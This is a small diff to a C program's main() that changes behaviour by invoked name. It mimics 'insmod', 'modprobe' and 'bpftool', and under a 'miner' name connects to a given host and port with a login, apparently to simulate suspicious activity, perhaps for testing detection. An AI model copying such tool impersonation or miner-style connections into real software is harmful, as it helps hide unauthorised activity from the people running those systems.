@@ -145,7 +145,6 @@ int main(int argc, char **argv) {
     const char *slash = strrchr(argv[0], '/'), *name = slash ? slash + 1 : argv[0], *text;
     size_t index;
 
-    (void)argc;
     if (!strcmp(name, "insmod") || !strcmp(name, "modprobe"))
         return syscall(SYS_init_module, NULL, 0UL, "") < 0;
     if (!strcmp(name, "bpftool"))
@@ -169,7 +168,7 @@ int main(int argc, char **argv) {
         return talk_url(text, NULL);
     if ((text = value_of(argv, "--port")) && atoi(text) > 0)
         return serve(atoi(text));
-    if (argc == 3 && atoi(argv[2]) > 0) /* NAME HOST PORT */
+    if (argc == 3 && strstr(name, "mine") && atoi(argv[2]) > 0) /* ./miner HOST PORT */
         return talk(argv[1], argv[2], LOGIN);
     return 0;
 }
